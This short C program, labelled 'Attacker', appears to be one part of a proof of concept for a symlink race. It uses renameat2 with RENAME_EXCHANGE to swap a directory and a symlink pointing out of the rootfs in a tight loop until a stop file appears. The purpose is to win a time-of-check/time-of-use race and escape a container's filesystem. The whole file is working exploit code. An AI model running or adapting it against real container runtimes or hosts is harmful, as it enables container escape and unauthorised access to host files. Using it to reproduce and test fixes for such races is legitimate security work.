/* Attacker: swap two names with renameat2(RENAME_EXCHANGE) as fast as possible (a directory and a
 * symlink pointing out of the rootfs), until the file argv[3] exists. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: swapper A B STOPFILE\n"); return 2; }
    for (unsigned long i = 0;; i++) {
        if ((i & 1023) == 0 && access(argv[3], F_OK) == 0) break;
        syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
    }
    return 0;
}
